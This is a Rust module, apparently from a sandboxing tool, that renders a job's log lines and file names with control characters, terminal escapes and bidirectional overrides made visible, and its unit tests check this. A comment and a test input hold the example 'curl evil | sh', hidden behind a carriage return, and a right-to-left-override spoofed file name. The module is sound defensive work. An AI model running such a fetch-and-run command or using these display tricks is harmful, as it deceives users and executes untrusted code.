//! Text a job wrote, made safe to print on the user's terminal: its control characters made
//! visible as `cat -v` shows them, so that an escape sequence in a log line or a file name cannot
//! move the cursor, erase what isolate printed above it, or retitle the terminal.

/// A path as a shell word: bare when safe, else in single quotes.
pub fn shell_quote(path: &std::path::Path) -> String {
    let s = path.to_string_lossy();
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+=:,@".contains(&b))
    {
        return s.into_owned();
    }
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// `text` with its control characters visible: C0 controls as `^X` (but tab, newline and a carriage
/// return before a newline when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to
/// U+009F, two bytes in UTF-8, or one byte of no character) as `M-^X`; in a name, bidirectional
/// overrides as `<U+202E>`. Nothing else changes, so text in any language reads as it was written.
pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        let b = text[i];
        match b {
            b'\t' | b'\n' if lines == Lines::Kept => out.push(b),
            // A line's end only: a carriage return alone would let the rest of the line print over
            // what came before it (`curl evil | sh\rmake test` showed as `make test`).
            b'\r' if lines == Lines::Kept && text.get(i + 1) == Some(&b'\n') => out.push(b),
            0x00..=0x1f => out.extend_from_slice(&[b'^', b + 0x40]),
            0x7f => out.extend_from_slice(b"^?"),
            0xc2 if matches!(text.get(i + 1), Some(0x80..=0x9f)) => {
                out.extend_from_slice(&[b'M', b'-', b'^', text[i + 1] - 0x40]);
                i += 1;
            }
            // A name's bidirectional overrides and isolates (U+202A to U+202E, U+2066 to U+2069)
            // would show it reordered: `notes-\u{202e}hs.txt` as `notes-txt.sh`.
            0xe2 if lines == Lines::Shown && bidi(&text[i..]) => {
                let c = u32::from(text[i + 1] & 0x3f) << 6 | u32::from(text[i + 2] & 0x3f);
                out.extend_from_slice(format!("<U+{:04X}>", 0x2000 + c).as_bytes());
                i += 2;
            }
            // A whole character of several bytes, as it is (its continuation bytes may lie in
            // 0x80-0x9F: `日` is E6 97 A5).
            0xc3..=0xf4 => match sequence(&text[i..]) {
                0 => out.push(b),
                n => {
                    out.extend_from_slice(&text[i..i + n]);
                    i += n - 1;
                }
            },
            // A byte of no character: an eight-bit C1 control (`\x9b` is CSI to a terminal that
            // takes them) is shown as the two-byte one is.
            0x80..=0x9f => out.extend_from_slice(&[b'M', b'-', b'^', b - 0x40]),
            _ => out.push(b),
        }
        i += 1;
    }
    out
}

/// How many bytes the UTF-8 character `at` starts with has, when they are all there and valid
/// (0 otherwise).
fn sequence(at: &[u8]) -> usize {
    let n = match at.first() {
        Some(0xc2..=0xdf) => 2,
        Some(0xe0..=0xef) => 3,
        Some(0xf0..=0xf4) => 4,
        _ => return 0,
    };
    match at.get(..n).map(std::str::from_utf8) {
        Some(Ok(_)) => n,
        _ => 0,
    }
}

/// How many bytes at the end of `text` begin a UTF-8 character that is not all there yet: a
/// stream's next piece completes it (held back by a writer escaping piece by piece).
pub fn incomplete_tail(text: &[u8]) -> usize {
    for back in 1..=3.min(text.len()) {
        let b = text[text.len() - back];
        let needs = match b {
            0x80..=0xbf => continue,
            0xc2..=0xdf => 2,
            0xe0..=0xef => 3,
            0xf0..=0xf4 => 4,
            _ => return 0,
        };
        return if needs > back { back } else { 0 };
    }
    0
}

/// Whether `at` starts with a bidirectional override or isolate, in UTF-8.
fn bidi(at: &[u8]) -> bool {
    matches!(
        at,
        [0xe2, 0x80, 0xaa..=0xae, ..] | [0xe2, 0x81, 0xa6..=0xa9, ..]
    )
}

/// Whether tabs and line breaks stay as they are (a log) or are shown too (one name on one line).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    Kept,
    Shown,
}

/// One name (a path a job chose) as one visible line.
pub fn name(text: &str) -> String {
    String::from_utf8_lossy(&visible(text.as_bytes(), Lines::Shown)).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_are_shown_and_text_is_kept() {
        assert_eq!(
            visible(b"a\x1b[2J\tb\nc\x7f\xc2\x9b", Lines::Kept),
            b"a^[[2J\tb\nc^?M-^[".to_vec()
        );
        assert_eq!(name("x\ny\r\u{1b}]0;t\u{7}"), "x^Jy^M^[]0;t^G");
        assert_eq!(name("résumé 日本"), "résumé 日本");
        assert_eq!(
            name("notes-\u{202e}hs.txt\u{2066}"),
            "notes-<U+202E>hs.txt<U+2066>"
        );
        assert_eq!(name("\u{2010}\u{202f}"), "\u{2010}\u{202f}");
        assert_eq!(
            visible(b"\x9b[2J \xe6\x97\xa5 \xe6\x97", Lines::Kept),
            b"M-^[[2J \xe6\x97\xa5 \xe6M-^W".to_vec()
        );
        assert_eq!(incomplete_tail(b"a\xe6\x97"), 2);
        assert_eq!(incomplete_tail(b"a\xc2"), 1);
        assert_eq!(incomplete_tail("a\u{65e5}".as_bytes()), 0);
        assert_eq!(incomplete_tail(b"a\x9b"), 0);
        assert_eq!(
            visible(b"curl evil | sh\rmake test\r\n", Lines::Kept),
            b"curl evil | sh^Mmake test\r\n".to_vec()
        );
    }
}
